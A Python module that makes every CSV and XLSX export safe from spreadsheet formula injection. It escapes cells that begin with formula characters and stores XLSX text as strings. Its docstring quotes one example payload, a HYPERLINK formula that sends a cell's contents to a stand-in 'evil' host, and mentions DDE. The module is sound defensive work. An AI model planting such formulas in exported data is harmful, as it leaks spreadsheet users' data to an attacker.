"""Every CSV and XLSX file the platform writes goes through here (one place to get it right).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken as a
formula by Excel, WPS and LibreOffice (``=HYPERLINK("http://evil/?"&A1, "点此")``, DDE); text
from outside (a title, a reader's search term, a supplier's note) must never become one. Such a
cell is written with a leading apostrophe, which spreadsheets show as plain text (OWASP's CSV
injection advice). Numbers stay numbers: ``-5`` as an int is a value, not text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written into a cell: text that a spreadsheet would run is
    prefixed with ``'``; numbers, dates and None pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 CSV with a BOM (Excel on Chinese Windows reads it as UTF-8), every cell made safe."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow([safe_cell(c) for c in header])
    for row in rows:
        writer.writerow(["" if c is None else safe_cell(c) for c in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], *, title: str = "") -> bytes:
    """One-sheet XLSX, every text cell stored as text (never as a formula) and made safe."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=(title or "Sheet1")[:31])
    for row in [header, *rows]:
        cells = []
        for value in row:
            cell = WriteOnlyCell(sheet, value=safe_cell(value))
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl would store "=…" as a formula otherwise
            cells.append(cell)
        sheet.append(cells)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
